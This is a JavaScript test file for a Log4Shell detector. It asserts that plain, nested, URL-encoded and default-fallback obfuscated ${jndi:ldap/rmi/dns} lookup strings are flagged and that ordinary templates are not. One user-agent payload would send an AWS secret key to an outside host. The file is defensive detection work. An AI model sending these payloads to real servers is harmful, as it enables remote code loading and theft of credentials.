// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the values under test are lookup and shell expressions, not templates
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { detectJndi, resolveLookups } from './jndi.js';
import { fires } from './test-helpers.js';

describe('detectJndi', () => {
  test('plain, nested and encoded lookups', () => {
    for (const value of [
      '${jndi:ldap://x.example/a}',
      '${${lower:j}ndi:rmi://x.example/a}',
      '${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}',
      '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x.example/a}',
      "${${upper:J}${date:'n'}di:dns://x.example}",
      '%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D',
      '${jNdI:LdAp://x.example/a}',
      'Mozilla/5.0 ${jndi:ldap://x.example/${env:AWS_SECRET_ACCESS_KEY}}',
    ]) {
      assert.ok(fires(detectJndi, value), value);
    }
  });

  test('benign templates do not fire', () => {
    for (const value of ['price: ${amount}', 'Hello ${name}', '$100', 'jndi is a Java API']) {
      assert.equal(fires(detectJndi, value), false, value);
    }
  });

  test('lookups with an empty or unknown name fall back to their default', () => {
    // Log4j splits at the first `:-`: `${:-j}` is `j` just as `${::-j}` is.
    for (const value of [
      '${${:-j}ndi:ldap://x.example/a}',
      '${${:-j}${:-n}${:-d}${:-i}:${:-l}${:-d}${:-a}${:-p}://x.example/a}',
      '${${nope:-j}ndi:ldap://x.example/a}',
    ]) {
      assert.ok(fires(detectJndi, value, { location: 'header', key: 'user-agent' }), value);
    }
    assert.equal(resolveLookups('${${:-j}${:-n}${::-d}${x:y:-i}:x}'), '${jndi:x}');
    // A shell-style default that spells nothing is still no lookup injection.
    assert.equal(fires(detectJndi, '${NAME:-guest}', { location: 'query' }), false);
  });

  test('resolveLookups rebuilds the characters', () => {
    assert.equal(resolveLookups('${${lower:J}${upper:n}${::-d}i:x}'), '${jNdi:x}');
  });
});
